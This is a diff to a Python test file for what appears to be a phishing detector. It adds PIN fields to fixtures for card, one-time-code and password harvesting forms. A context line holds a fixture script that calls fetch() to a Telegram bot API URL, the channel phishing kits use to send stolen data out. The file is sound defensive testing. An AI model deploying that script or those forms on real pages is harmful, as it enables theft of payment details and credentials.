@@ -12,6 +12,8 @@ BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTu
 FIELDS = {
     "card": "<input name=cardnumber placeholder='Card number'><input name=exp placeholder='MM/YY'><input name=cvv placeholder=CVV>",
     "code": "<input name=otp placeholder='Code from your authenticator' autocomplete=one-time-code>",
+    "pin": "<input type=password name=pin placeholder='Your PIN'>",
+    "new pin": "<input type=password name=pin placeholder='Choose a PIN'>",
     "secret": "<input name=user placeholder=Email><input type=password name=pw placeholder=Password>",
     "message": "<input name=name placeholder='Full name'><input type=email name=email><textarea name=message></textarea>",
     "document": "<input name=name placeholder='Full name'><input type=file name=cv>",
@@ -107,9 +109,19 @@ STREET = "<p>12 Jalan Ampang, 50450 Kuala Lumpur</p>"
         ("meadowbrook-pay.com", 100, "card", "", False),
         (LENT, -1, "card", STREET, False),
         (LENT, -1, "code", "", False),
+        (LENT, -1, "pin", "", True),
+        (LENT, -1, "new pin", "", False),
         (LENT, -1, "secret", "", False),
     ],
 )
 def test_who_takes_a_card_says_who_he_is(host: str, age_days: int, fields: str, shown: str, *, fires: bool) -> None:
     found = nats(row(host, form(fields, "/pay") + shown, age_days=age_days))
     assert ("content-unowned-secrets" in found) is fires
+
+
+@pytest.mark.parametrize(("fields", "fires"), [("pin", True), ("new pin", False)])
+def test_a_pin_may_be_chosen_outside_a_form(fields: str, *, fires: bool) -> None:
+    page = form(fields, "/pay").replace("<form", "<div").replace("</form", "</div")
+    assert ("content-unowned-secrets" in nats(row(LENT, page, age_days=-1))) is fires
+    both = form("new pin", "/pay") + FIELDS["pin"]
+    assert "content-unowned-secrets" in nats(row(LENT, both, age_days=-1))
